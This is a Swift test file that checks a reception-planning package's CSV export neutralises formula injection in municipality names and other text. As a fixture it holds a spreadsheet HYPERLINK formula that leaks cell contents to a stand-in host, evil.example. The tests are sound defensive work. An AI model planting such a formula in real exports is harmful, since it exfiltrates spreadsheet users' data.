import Foundation
import ReceptionKit
import Testing

/// CSV we write is opened in spreadsheets: officer-typed text must never become a formula.
@Suite("CSV cells")
struct CSVCellTests {
    static let hyperlink = #"=HYPERLINK("https://evil.example/?leak="&A1,"Open")"#

    @Test func aFormulaIsNeutralizedAndStillQuoted() {
        #expect(CSVCell.text(Self.hyperlink).field == #""'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")""#)
        #expect(CSVCell.text("=1+1").field == "'=1+1")
    }

    @Test(arguments: ["=SUM(A1:A9)", "+46 90 16 10 00", "-1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
    func everyTextCellStartingAFormulaGetsAQuote(text: String) {
        let field = CSVCell.text(text).field
        #expect(field.hasPrefix("'") || field.hasPrefix("\"'"))
    }

    @Test(arguments: [("Umeå", "Umeå"), ("Vännäs", "Vännäs"), ("2480", "2480"), ("true", "true"), ("", ""),
                      ("Umeå, centrum", "\"Umeå, centrum\""), ("Sävar; Holmsund", "\"Sävar; Holmsund\""),
                      ("the \"old\" school", "\"the \"\"old\"\" school\""), ("two\nlines", "\"two\nlines\"")])
    func ordinaryTextIsOnlyQuotedWhereRFC4180NeedsIt(text: String, field: String) {
        #expect(CSVCell.text(text).field == field)
    }

    /// The program's own numbers stay numbers, a negative one included.
    @Test func numbersAreExempt() {
        #expect(CSVCell.integer(-3).field == "-3")
        #expect(CSVCell.integer(120).field == "120")
        #expect(CSVCell.decimal(2.0 / 3.0, fractionDigits: 4).field == "0.6667")
        #expect(CSVCell.decimal(-0.5, fractionDigits: 2).field == "-0.50")
        #expect(CSVCell.empty.field == "")
        #expect(CSVCell.record([.integer(2026), .text("-1"), .empty, .integer(-1)]) == "2026,'-1,,-1")
    }

    @Test func theIntakeCSVNeutralizesMunicipalityNames() throws {
        func municipality(_ code: String, _ name: String) -> IntakeReport.Municipality {
            .init(code: code, name: name, active: true, personsQuota: 10, placedPersons: 3, placedHouseholds: 1,
                  proposedPersons: 2, proposedHouseholds: 1, placedChildren: 1, placedWithSpecialNeeds: 0,
                  forcedPlacements: 0, dimensions: [.init(dimension: "persons", quota: 10, used: 5, forced: 0)])
        }
        let report = IntakeReport(period: 2026, generatedAt: Date(), municipalities: [
            municipality("2480", "Umeå"), municipality("9997", Self.hyperlink), municipality("9998", "-1"),
            municipality("9999", "\tcmd"),
        ])
        let csv = report.renderCSV()
        let document = CSVReader.read(Array(csv.utf8))
        #expect(document.problems.isEmpty)
        let names = document.records.dropFirst().map { $0.fields[2] }
        #expect(names == ["Umeå", "'" + Self.hyperlink, "'-1", "'\tcmd"])
        #expect(csv.contains("2026,2480,Umeå,true,10,3,1,2,1,1,0,0,0.3000,0,0,10,5,0," + Array(repeating: "0", count: 24).joined(separator: ",") + "\r\n"))
        #expect(csv.contains(#"2026,9997,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",true,10,"#))
    }
}
